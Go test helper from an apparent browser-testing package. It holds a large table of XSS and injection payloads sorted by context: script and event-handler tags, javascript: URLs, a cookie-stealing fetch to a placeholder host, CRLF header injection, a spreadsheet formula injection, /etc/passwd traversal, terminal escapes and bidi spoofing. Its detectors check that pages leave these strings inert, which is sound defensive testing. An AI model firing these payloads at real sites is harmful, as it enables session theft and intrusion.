package browsertest

import (
	"encoding/json"
	"mime"
	"strings"
)

// A Place is a context into which a careless page or server writes a text unescaped.
type Place string

// The places where hostile texts run.
const (
	Body      Place = "body"      // between elements
	Quoted    Place = "quoted"    // in an attribute in double quotes
	Single    Place = "single"    // in an attribute in single quotes
	Bare      Place = "bare"      // in an attribute without quotes
	URL       Place = "url"       // as the address of a link, which is followed
	Name      Place = "name"      // as the name of an element
	Handler   Place = "handler"   // in a string of an event handler
	Script    Place = "script"    // in a string of a script
	Literal   Place = "literal"   // in a template literal of a script
	Style     Place = "style"     // in a string of a style sheet
	Colour    Place = "colour"    // as a value in a style attribute
	Comment   Place = "comment"   // in a comment
	CDATA     Place = "cdata"     // in a section of a drawing
	TextArea  Place = "textarea"  // in a field to write in
	Title     Place = "title"     // in the title
	Unescaped Place = "unescaped" // with the entities of HTML and the escapes of addresses and JSON undone
	Cleaned   Place = "cleaned"   // parsed, written out and parsed again
	Template  Place = "template"  // as a part of a template of the server
	Markdown  Place = "markdown"  // where Markdown becomes links and images
	Stream    Place = "stream"    // as the data of a server-sent event
	Header    Place = "header"    // as a file's name in a header
	Nowhere   Place = "nowhere"   // no browser of today runs it, or it only spoils what is seen
)

// A Hostile text must be shown as text. If it is interpreted it increments the global variable ran,
// requests assay.invalid, sets the style property --ran, opens a dialog, leaves the page, or
// redefines a name of the page's scripts. Page.Ran detects that.
type Hostile struct {
	Text  string
	Place Place
}

// File returns the text as a valid file name: without separators and NUL, and within the length
// limit.
func (h Hostile) File() string {
	name := strings.NewReplacer("/", "∕", "\\", "∖", "\x00", "␀").Replace(strings.ToValidUTF8(h.Text, "�"))
	if len(name) > 200 {
		name = strings.ToValidUTF8(name[:200], "")
	}
	return name
}

// HostileTexts returns the table. Callers may change it.
func HostileTexts() []Hostile {
	var out []Hostile
	for _, group := range hostile {
		for _, text := range group.texts {
			out = append(out, Hostile{text, group.place})
		}
	}
	return out
}

var hostile = []struct {
	place Place
	texts []string
}{
	{Body, []string{
		`<script>ran=1</script>`,
		`<ScRiPt/x>ran=1</sCrIpT >`,
		`<script src=https://assay.invalid/a.js></script>`,
		`<script type=module>globalThis.ran=1</script>`,
		`</p></td></table></div></main><script>ran=1</script>`,
		`<img src=data:, onerror=ran=1>`,
		`<img/src="data:,"/onerror=ran=1>`,
		"<img\nsrc=data:,\nonerror\n=\nran=1>",
		"<img\fsrc=data:,\fonerror=ran=1>",
		`<img src=data:, onerror=ran=1//`,
		`<img src=data:, onerror=&#114;an&#61;1>`,
		`<svg onload=ran=1>`,
		`<svg><script>ran=1</script></svg>`,
		`<svg><script>&#114;an=1</script></svg>`,
		`<svg><animate onbegin=ran=1 attributeName=x dur=1s>`,
		`<svg><image href=https://assay.invalid/a.png></svg>`,
		`<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
		`<math><mtext><img src=data:, onerror=ran=1></mtext></math>`,
		`<math><annotation-xml encoding="text/html"><style onload=ran=1></style></annotation-xml></math>`,
		`<body onload=ran=1>`,
		`<details open ontoggle=ran=1>`,
		`<input autofocus onfocus=ran=1>`,
		`<b tabindex=1 autofocus onfocus=ran=1>x</b>`,
		`<video src=data:, onerror=ran=1></video>`,
		`<audio><source src=data:, onerror=ran=1></audio>`,
		`<video poster=https://assay.invalid/a.png></video>`,
		`<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
		`<iframe src=javascript:parent.ran=1></iframe>`,
		`<object data=https://assay.invalid/a></object>`,
		`<embed src=https://assay.invalid/a>`,
		`<style onload=ran=1></style>`,
		`<style>@import "https://assay.invalid/a.css";</style>`,
		`<style>:root{--ran:1}</style>`,
		`<link rel=stylesheet href=https://assay.invalid/a.css>`,
		`<link rel=stylesheet href=data:text/css, onload=ran=1>`,
		`<meta http-equiv=refresh content="0;url=https://assay.invalid/">`,
		`<base href=https://assay.invalid/><img src=x>`,
		`<img srcset=https://assay.invalid/a.png>`,
		`<input type=image src=https://assay.invalid/a.png>`,
		`<table background=https://assay.invalid/a.png><tr><td>x</table>`,
		`<div><template shadowrootmode=open><img src=data:, onerror=ran=1></template></div>`,
		`<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=ran=1>x</b>`,
		`<div style="content-visibility:auto" oncontentvisibilityautostatechange=ran=1>x</div>`,
		`<script>alert(1)</script>`,
		`<script>location="https://assay.invalid/"</script>`,
		`<script>fetch("https://assay.invalid/?"+document.cookie)</script>`,
		`<script>new WebSocket("wss://assay.invalid/")</script>`,
		`<a id=ran>x</a>`,
		`<img name=cookie>`,
		`<form name=getElementById></form>`,
		`<form name=body><input name=attributes></form>`,
	}},
	{Quoted, []string{
		`"><script>ran=1</script>`,
		`" autofocus onfocus=ran=1 x="`,
		`" style="--ran:1" x="`,
		"\"\tautofocus\tonfocus='ran=1'\tx=\"",
	}},
	{Single, []string{
		`'><svg onload=ran=1>`,
		`' autofocus onfocus='ran=1`,
	}},
	{Bare, []string{
		`x autofocus onfocus=ran=1`,
		`x><script>ran=1</script>`,
		"x\u000cautofocus\u000confocus=ran=1",
	}},
	{URL, []string{
		`javascript:ran=1`,
		`JaVaScRiPt:ran=1`,
		"java\tscript:ran=1",
		"java\nscript\r:ran=1",
		"\x01\x1f javascript:ran=1",
		`javascript://assay.invalid/%0aran=1`,
		`javascript:void(ran=1)//https://example.com/`,
		`//assay.invalid/`,
		`\\assay.invalid/`,
		"/\t/assay.invalid/",
		`https:\\assay.invalid`,
	}},
	{Name, []string{`ran`, `body`, `cookie`, `querySelector`}},
	{Handler, []string{
		`');ran=1;//`,
		`&#39;);ran=1;//`,
		`\x27);ran=1;//` + `');ran=1;//`,
	}},
	{Script, []string{
		`"};ran=1;//`,
		`</script><script>ran=1</script>`,
		`","b":(ran=1),"c":"`,
		`"+(ran=1)+"`,
	}},
	{Literal, []string{`${ran=1}`, "`;ran=1;`"}},
	{Style, []string{
		`"}:root{--ran:1}`,
		`"}html[lang]{background:url(https://assay.invalid/a.png)}`,
		`</style><script>ran=1</script>`,
		"\n}:root{--ran:1}",
	}},
	{Colour, []string{`red;--ran:1`, `red;background:url(https://assay.invalid/a.png)`}},
	{Comment, []string{`--><script>ran=1</script>`, `--!><script>ran=1</script>`, `><script>ran=1</script>`}},
	{CDATA, []string{`]]><script>ran=1</script>`}},
	{TextArea, []string{`</textarea><script>ran=1</script>`, `</TextArea/><img src=data:, onerror=ran=1>`}},
	{Title, []string{`</title><script>ran=1</script>`}},
	{Unescaped, []string{
		`&lt;script&gt;ran=1&lt;/script&gt;`,
		`&#60;img src=data:, onerror=ran=1&#x3e;`,
		`&ltimg src=data:, onerror=ran=1&gt`,
		`%3Cscript%3Eran=1%3C/script%3E`,
		`\u003cscript\u003eran=1\u003c/script\u003e`,
	}},
	{Cleaned, []string{
		`<svg></p><style><a id="</style><img src=data:, onerror=ran=1>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src=data:, onerror=ran=1>`,
	}},
	{Template, []string{
		`{{printf "%cscript>ran=1%c/script>" 60 60}}`,
		`{{"\u003cscript>ran=1\u003c/script>"}}`,
		`{{define "x"}}<script>ran=1</script>{{end}}{{template "x"}}`,
	}},
	{Markdown, []string{`[x](javascript:ran=1)`, `![x](https://assay.invalid/a.png)`}},
	{Stream, []string{
		"x\n\nevent: ran\ndata: 1",
		"x\r\n\r\nevent: ran\r\ndata: 1",
		"x\r\revent: ran\rdata: 1",
		"x\nevent: ran",
		"x\n\nid: 99999999\nretry: 1\nevent: ran\ndata: {}",
	}},
	{Header, []string{
		"x\r\nSet-Cookie: ran=1",
		"x\"\r\nRefresh: 0;url=https://assay.invalid/\r\nX: \"",
		"x\r\nContent-Type: text/html\r\n\r\n<script>ran=1</script>",
		`x"; filename="ran.exe`,
		`x"; filename*=UTF-8''ran.exe; x="`,
	}},
	{Nowhere, []string{
		`+ADw-script+AD4-ran=1+ADw-/script+AD4-`,             // UTF-7
		"\xc0\xbcscript\xc0\xberan=1\xc0\xbc/script\xc0\xbe", // too many bytes for a sign
		`＜script＞ran=1＜/script＞`,                             // signs that become others when they are normalised
		"<scr\x00ipt>ran=1</scr\x00ipt>",
		"\x1b(J\"><script>ran=1</script>", // a Japanese encoding begins
		`<p style="x:expression(ran=1);-moz-binding:url(https://assay.invalid/a)">`,
		`vbscript:ran=1`, `data:text/html,<script>opener.ran=1</script>`, `<plaintext>`, `<marquee onstart=ran=1>x</marquee>`,
		`<!--<script>";ran=1//`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=ran=1&gt;">`,
		`<mark id="turn-1-claim-1-quote-1" class=good>forged</mark>`, `</mark></a><mark id=passage>forged`, `[Query 1][Source 1]`, `[1](#turn-1)`,
		`=cmd|'/C calc'!A0`,
		`__proto__`, `constructor`, `toString`, `hasOwnProperty`, `location`,
		"\x1b]0;ran\x07\x1b[2J\x1b[31mred", "\u009b31mred\u009d0;ran\u009c", "\x1b]8;;https://assay.invalid/\x1b\\x\x1b]8;;\x1b\\", // for terminals
		"\r\x08\x7f\x00\x01\x02end",
		"an invoice \u202egpj.exe", "\u2067\u2067\u2067 unclosed", "\u2066a\u2069\u2069\u2069b", "\u200fשלום abc\u200e",
		"pass\u200bword", "\ufeff\u2060\u00ad", "a\U000e0041\U000e0042\U000e007f", "\u3164\u115f\u1160", "\u2028line\u2029paragraph\u0085next",
		strings.Repeat("W", 3000), strings.Repeat("a\u00a0", 800), strings.Repeat("Z\u0351\u036b\u0343\u036a\u0302", 200), strings.Repeat("\n", 60) + "deep",
		"\xff\xfe\xed\xa0\x80\xf4\x90\x80\x80", "\uffff\ufffe\U0010ffff", "\x00",
		"", " ", "\t\n ", ".", "..", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "C:\\x", "?q=1#main&amp;x", "%00%ff%zz", "#main", "main",
	}},
}

// Armed returns elements, attributes and addresses that could run something. Our pages have none,
// so each comes from a text, even if the page's policy blocks it.
func (p *Page) Armed() []string {
	p.t.Helper()
	return p.list("armed()")
}

// Ran returns the effects of hostile texts on the page since Goto.
func (p *Page) Ran() []string {
	p.t.Helper()
	out := p.list("ran()")
	for _, ev := range p.events {
		var of struct {
			URL, Message, EventName string
			Frame                   struct{ ParentID, URL string }
			Request                 struct{ URL string }
			Response                struct{ Headers map[string]string }
		}
		if err := json.Unmarshal(ev.Params, &of); err != nil {
			continue // of an event that has other things by these names
		}
		switch ev.Method {
		case "Page.javascriptDialogOpening":
			out = append(out, "a dialog says "+of.Message)
		case "Network.requestWillBeSent", "Network.webSocketCreated":
			if to := of.Request.URL + of.URL; strings.Contains(to, "assay.invalid") && p.strange(to) {
				out = append(out, "a request to "+to)
			}
		case "Page.frameNavigated":
			if p.strange(of.Frame.URL) {
				out = append(out, "a navigation to "+of.Frame.URL)
			}
		case "Network.eventSourceMessageReceived":
			if of.EventName == "ran" {
				out = append(out, "an event of a text")
			}
		case "Network.responseReceived":
			for name, value := range of.Response.Headers {
				_, params, err := mime.ParseMediaType(value)
				if strings.Contains(value, "assay.invalid") || strings.EqualFold(name, "Content-Disposition") && (err != nil || params["filename"] == "ran.exe") {
					out = append(out, "the header "+name+": "+value)
				}
			}
		}
	}
	return out
}

// Turning returns the texts that can reverse the direction of the texts around them.
func (p *Page) Turning() []string {
	p.t.Helper()
	return p.list("turning()")
}
